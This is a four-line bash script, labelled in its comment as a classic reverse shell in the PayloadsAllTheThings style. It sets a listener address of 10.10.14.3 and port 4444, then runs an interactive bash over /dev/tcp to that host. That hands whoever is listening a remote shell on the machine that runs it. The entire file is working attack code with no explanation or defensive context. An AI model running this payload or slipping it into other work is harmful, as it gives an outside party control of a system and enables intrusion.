#!/bin/bash
# classic bash reverse shell (PayloadsAllTheThings style)
LHOST=10.10.14.3
LPORT=4444
bash -i >& /dev/tcp/$LHOST/$LPORT 0>&1
